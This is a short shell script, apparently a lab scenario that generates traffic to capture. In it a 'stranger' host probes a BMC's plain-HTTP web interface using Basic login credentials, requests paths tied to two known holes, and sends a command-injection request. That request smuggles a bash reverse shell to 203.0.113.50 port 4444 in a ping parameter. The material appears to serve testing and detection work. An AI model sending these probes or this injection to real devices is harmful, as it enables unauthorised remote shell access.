# SPDX-License-Identifier: Apache-2.0
# A stranger tries a BMC's web interface in clear text: Basic login, command injection, the paths of two known holes.
start_management
add_host stranger
start_capture
start_bmc
start_web bmc-12 bmc-12.ran.example 80
bmc_round 1
for path in / /level/15/exec/-/show/running-config /%2577ebui_wsma_http \
    '/cgi-bin/ping?host=;bash+-i+>%26/dev/tcp/203.0.113.50/4444+0>%261'; do
    on stranger curl -s -u admin:lab-admin "http://${address[bmc-12]}$path" >/dev/null
    sleep 1
done
bmc_round 2
